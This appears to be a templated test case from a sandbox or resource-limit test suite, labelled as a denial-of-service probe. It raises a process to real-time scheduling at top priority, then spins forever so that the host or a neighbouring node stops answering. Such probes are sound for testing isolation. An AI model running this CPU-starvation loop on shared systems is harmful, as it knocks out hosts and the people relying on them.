# family: limits
# kind: dos
# seconds: 2
# tries: real-time scheduling, and the highest priority, for a loop
# success looks like: the node or the neighbour stops answering
def job(plugin):
  @LIBC@
  priority = c.c_int(99)
  libc.sched_setscheduler(0, 1, c.byref(priority))
  libc.setpriority(0, 0, -20)
  n = 0
  while True:
    n = n + 1
